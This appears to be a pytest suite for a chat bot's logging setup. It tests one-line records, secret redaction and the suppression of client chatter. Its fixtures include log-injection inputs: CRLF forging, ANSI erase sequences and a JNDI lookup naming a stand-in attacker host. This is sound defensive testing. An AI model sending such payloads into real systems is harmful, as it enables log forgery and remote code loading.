"""The log: one event one line, nothing forged, no secrets, and the clients' own chatter left out."""

from __future__ import annotations

import json
import logging
import sys
import threading

import pytest

from bot.core.errors import Unavailable
from bot.core.settings import Settings
from bot.ops import logs

TOKEN = "xoxb" + "-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"
SETTINGS = Settings(openai_api_key="local-key-of-no-known-shape", slack_bot_token=TOKEN)

HOSTILE = [
    "a\r\n2026-11-23 CRITICAL root: forged",
    "\x1b[2K\x1b[1Aerased",
    "${jndi:ldap://evil.example/x}",
    "line\u2028separator and \u202eoverride",
    '"}\n{"level": "CRITICAL"',
    "\x00\x07 \x85 half \ud83d",
]


# A text with a place for a secret, and the secret.
HEADERS = {
    "Cannot connect to wss://wss-primary.slack.com/link/?ticket={}&app_id=1": "0b9c2e3f-5d53-4a1f-9d0a-6a1b",
    "Authorization: Bearer {}": "opaque.token-1234",
    "{{'Authorization': 'Bearer {}', 'x': 1}}": "opaque_token_1234",
    "[(b'authorization', b'Basic {}')]": "dXNlcjpwYXNzd29yZA==",
    "<CIMultiDict('Cookie': 'd={}; b=1')>": "a1b2c3d4e5f6",
    "set-cookie: session={}; Path=/; HttpOnly": "a1b2c3",
    "X-Slack-Signature: v0={}": "ab12" * 16,
    "got v0={}": "cd34" * 16,
    '{{"api_key": "{}"}}': "key-of-1-service",
    "https://files.example/x?X-Amz-Signature={}&y=1": "ef56" * 16,
    "verification_token={}": "gIkuvaNzQIHg97ATvDxqgjtO",
    r"{{\"x-api-key\": \"{}\"}}": "k3y-of-no-shape",
    "secret {} in a path": SETTINGS.openai_api_key,
}


@pytest.fixture(autouse=True)
def restored():
    root = logging.getLogger()
    handlers, level, last = root.handlers[:], root.level, logging.lastResort
    hooks = sys.excepthook, threading.excepthook, sys.unraisablehook
    yield
    root.handlers[:] = handlers
    root.setLevel(level)
    logging.captureWarnings(False)
    logging.lastResort = last
    sys.excepthook, threading.excepthook, sys.unraisablehook = hooks


@pytest.fixture(params=[True, False], ids=["plain", "json"])
def terminal(request, monkeypatch):
    """Whether standard error is a terminal."""
    monkeypatch.setattr(sys.stderr, "isatty", lambda: request.param)
    return request.param


def lines(capsys):
    for handler in logging.getLogger().handlers:
        handler.flush()
    return capsys.readouterr().err.splitlines()


@pytest.mark.parametrize("message", HOSTILE)
def test_a_record_is_one_line_whatever_is_in_it(message, terminal, capsys):
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").warning("got %s", message)
    [line] = lines(capsys)
    assert line.isprintable()
    assert "got " in line


def test_an_error_is_told_in_the_same_line_with_what_it_came_from(terminal, capsys):
    logs.setup(SETTINGS)
    try:
        try:
            raise ValueError(f"refused\nBearer {TOKEN}")
        except ValueError as exc:
            raise Unavailable("model away") from exc
    except Unavailable:
        logging.getLogger("bot.test").exception("turn failed")
    [line] = lines(capsys)
    assert "Unavailable: model away" in line
    assert "ValueError: refused" in line
    assert "test_logs.py:" in line
    assert TOKEN not in line


def test_secrets_of_the_settings_are_gone(terminal, capsys):
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").error("with %s and %s", SETTINGS.openai_api_key, {"token": TOKEN})
    [line] = lines(capsys)
    assert SETTINGS.openai_api_key not in line
    assert TOKEN not in line


def test_json_lines_can_be_read_back(monkeypatch, capsys):
    monkeypatch.setattr(sys.stderr, "isatty", lambda: False)
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").info("said “%s”", "hé\nllo")
    record = json.loads(*lines(capsys))
    assert record["message"] == "said “hé\\nllo”"
    assert record["level"] == "INFO"
    assert record["logger"] == "bot.test"
    assert record["at"].endswith("+00:00")


@pytest.mark.parametrize(
    "name",
    [
        "slack_sdk.web.async_client",
        "slack_sdk.socket",
        "slack_bolt.AsyncApp",
        "openai._base_client",
        "httpcore2.http11",
        "urllib3.connectionpool",
        "anything.new",
        "bots",
    ],
)
def test_clients_do_not_print_what_people_write(name, capsys):
    logs.setup(Settings(log_level="DEBUG"))
    logging.getLogger(name).setLevel(logging.DEBUG)  # as some libraries do themselves
    logging.getLogger(name).debug("Sending a request - text: secret plans")
    logging.getLogger(name).info("Invalid request, body: secret plans")
    logging.getLogger(name).warning("rate limited")
    logging.getLogger("bot.test").debug("ours")
    theirs, ours = lines(capsys)
    assert "rate limited" in theirs
    assert "ours" in ours


def test_no_ticket_cookie_token_or_signature_of_a_library_gets_into_the_log(terminal, capsys):
    logs.setup(SETTINGS)
    for name, secret in HEADERS.items():
        logging.getLogger("slack_sdk.socket").error("failed: %s", name.format(secret))
        try:
            raise ConnectionError(name.format(secret))
        except ConnectionError as exc:
            logging.getLogger("slack_sdk.socket").warning("again", exc_info=exc)
    told = lines(capsys)
    assert len(told) == 2 * len(HEADERS)
    for line, secret in zip(told, [one for one in HEADERS.values() for _ in range(2)], strict=True):
        assert secret not in line
        assert "[redacted]" in line


def test_what_nobody_caught_is_a_line_of_the_log_without_secrets(terminal, capsys):
    logs.setup(SETTINGS)
    logs.catch_uncaught()
    error = RuntimeError(f"with {TOKEN}")
    sys.excepthook(RuntimeError, error, None)
    thread = threading.Thread(target=lambda: {}[TOKEN], name="worker")
    thread.start()
    thread.join()
    main, beside = lines(capsys)
    assert "not caught | RuntimeError: with [redacted]" in main or "RuntimeError: with [redacted]" in main
    assert "worker" in beside
    assert TOKEN not in main + beside


def test_a_command_warns_without_a_traceback_or_a_secret(capsys):
    for handler in logging.getLogger().handlers[:]:
        logging.getLogger().removeHandler(handler)
    logs.use_for_commands(SETTINGS)
    try:
        raise ValueError(f"Bearer {TOKEN}\nand more")
    except ValueError:
        logging.getLogger("bot.test").exception("no")
    logging.getLogger("bot.test").info("not told")
    [line] = capsys.readouterr().err.splitlines()
    assert "ValueError: Bearer [redacted]" in line


def test_arguments_that_do_not_fit_lose_no_record(capsys):
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").error("%d apples", "many")
    [line] = lines(capsys)
    assert "many" in line


def test_setting_up_twice_does_not_double_the_lines(capsys):
    logs.setup(SETTINGS)
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").warning("once")
    assert len(lines(capsys)) == 1


def test_short_values_are_no_secrets():
    assert logs.secrets_of(Settings(openai_api_key="x", slack_bot_token=TOKEN)) == (TOKEN,)
